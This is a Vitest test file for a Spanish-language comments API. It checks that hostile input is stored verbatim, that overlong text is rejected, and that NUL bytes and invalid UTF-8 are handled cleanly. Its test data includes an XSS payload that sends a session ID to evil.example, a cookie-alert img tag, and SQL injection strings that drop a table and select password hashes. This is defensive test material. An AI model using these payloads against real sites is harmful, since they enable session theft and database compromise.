import { randomBytes } from 'node:crypto';
import { MAX_COMMENT_LENGTH } from '@replica/api-client/schemas';
import { describe, expect, it } from 'vitest';
import { createApp } from '../app';
import { signUpAndSignIn } from '../../test-support/accounts';
import { describeOnEachDatabase } from '../../test-support/databases';
import { serveOnLoopback } from '../../test-support/loopback';

/** Texts an attacker or a careless export would send; each must come back exactly as sent. */
const HOSTILE = [
  '<img src=x onerror="alert(document.cookie)"> es caro',
  '<script>fetch("https://evil.example/?c="+localStorage.sessionId)</script> precio alto',
  "Robert'); DROP TABLE comments; -- demasiado caro",
  "' OR '1'='1' UNION SELECT password_hash FROM users --",
  '\u202Eotse se orac\u202C y el \u200Fsoporte\u200E no contesta',
  'مرحبا، السعر مرتفع جدا 😡🔥👍🏽 y la familia 👨‍👩‍👧‍👦 también',
  'Comillas "dobles", \\barras\\ y ${plantillas} `código` {{moustache}}',
  `Una línea muy larga: ${'á'.repeat(MAX_COMMENT_LENGTH - 21)}`,
];

describe('hostile comment text through the API', () => {
  describeOnEachDatabase((database) => {
    const http = serveOnLoopback(() => createApp({ database: database() }));

    it('stores HTML, SQL, RTL marks, emoji and a maximum-length line exactly as text', async () => {
      const sessionId = await signUpAndSignIn(http);
      const industry = `Hostil ${randomBytes(4).toString('hex')}`;
      const manual = await http.call('POST', '/functions/v1/comments-manual', {
        sessionId,
        json: { text: HOSTILE[0], industry },
      });
      expect(manual.status).toBe(201);
      const bulk = await http.call('POST', '/functions/v1/comments-bulk', {
        sessionId,
        json: {
          batchId: `hostil-${randomBytes(6).toString('hex')}`,
          kind: 'bulk',
          industry,
          comments: HOSTILE.slice(1).map((text) => ({ text, author: text.slice(0, 40) })),
        },
      });
      expect(await bulk.json()).toEqual({
        inserted: HOSTILE.length - 1,
        duplicates: 0,
        tooShort: 0,
        failed: 0,
      });
      const inbox = await http.call(
        'GET',
        `/functions/v1/opiniones?industry=${encodeURIComponent(industry)}&limit=50`,
        { sessionId },
      );
      expect(inbox.headers.get('content-type')).toMatch(/^application\/json/);
      const { items } = (await inbox.json()) as { items: Array<{ text: string }> };
      expect(items.map((item) => item.text).sort()).toEqual([...HOSTILE].sort());
    });

    it('refuses a 10,000-character line with a Spanish message and stores nothing', async () => {
      const sessionId = await signUpAndSignIn(http);
      const industry = `Larga ${randomBytes(4).toString('hex')}`;
      const text = 'x'.repeat(10_000);
      const manual = await http.call('POST', '/functions/v1/comments-manual', {
        sessionId,
        json: { text, industry },
      });
      expect(manual.status).toBe(400);
      expect(await manual.json()).toEqual({
        error: `El texto admite como máximo ${MAX_COMMENT_LENGTH} caracteres`,
        code: 'text_too_long',
      });
      const bulk = await http.call('POST', '/functions/v1/comments-bulk', {
        sessionId,
        json: {
          batchId: `larga-${randomBytes(6).toString('hex')}`,
          kind: 'bulk',
          industry,
          comments: [{ text }],
        },
      });
      expect(await bulk.json()).toEqual({ inserted: 0, duplicates: 0, tooShort: 0, failed: 1 });
    });

    it('answers NUL bytes and invalid UTF-8 cleanly, never with a 500', async () => {
      const sessionId = await signUpAndSignIn(http);
      const industry = `Bytes ${randomBytes(4).toString('hex')}`;
      const nul = await http.call('POST', '/functions/v1/comments-manual', {
        sessionId,
        json: { text: 'Con un byte nulo \u0000 en medio del texto', industry },
      });
      expect(nul.status, await nul.clone().text()).toBe(201);
      // Bytes that are not UTF-8 (a Latin-1 "é" and a stray continuation byte) inside JSON: the
      // decoder makes them one U+FFFD, shown as such.
      const invalid = Buffer.concat([
        Buffer.from('{"industry":"' + industry + '","text":"Caf'),
        Buffer.from([0xe9, 0x80]),
        Buffer.from(' demasiado caro para mí"}'),
      ]);
      const answer = await fetch(`${http.origin}/functions/v1/comments-manual`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-session-id': sessionId },
        body: invalid,
      });
      expect(answer.status).toBe(201);
      const inbox = await http.call(
        'GET',
        `/functions/v1/opiniones?industry=${encodeURIComponent(industry)}&limit=50`,
        { sessionId },
      );
      const { items } = (await inbox.json()) as { items: Array<{ text: string }> };
      expect(items.map((item) => item.text).sort()).toEqual([
        'Caf\uFFFD demasiado caro para mí',
        // PostgreSQL text cannot hold U+0000: the API drops it from every string it reads.
        'Con un byte nulo  en medio del texto',
      ]);
    });
  });
});
